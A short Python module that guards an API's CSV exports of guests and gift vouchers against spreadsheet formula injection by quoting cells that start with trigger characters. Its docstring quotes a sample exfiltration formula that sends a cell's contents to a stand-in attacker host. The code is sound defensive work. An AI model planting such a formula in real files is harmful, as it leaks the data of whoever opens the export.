"""CSV cells that a spreadsheet will not run (OWASP "CSV Injection").

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel and LibreOffice: a guest
who types `=HYPERLINK("https://evil.example?"&A1)` as their name would run it on the host's computer when the
export is opened. Such a cell is prefixed with a single quote, which makes it text. A value that is only a number
or a phone number (`-12,50`, `+33 1 23 45 67 89`) is left as is: it cannot call a function, and hosts read it.
Every CSV the API exports goes through `neutralise` (guests, gift vouchers).
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER_OR_PHONE = re.compile(r"[+-]?[0-9][0-9 .,/()\-]*")


def neutralise(value: Any) -> Any:
    """The value, made inert if it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER_OR_PHONE.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [neutralise(v) for v in values]


def safe_rows(rows: Iterable[Mapping[str, Any]]) -> list[dict[str, Any]]:
    """csv.DictWriter rows with every cell neutralised."""
    return [{k: neutralise(v) for k, v in row.items()} for row in rows]
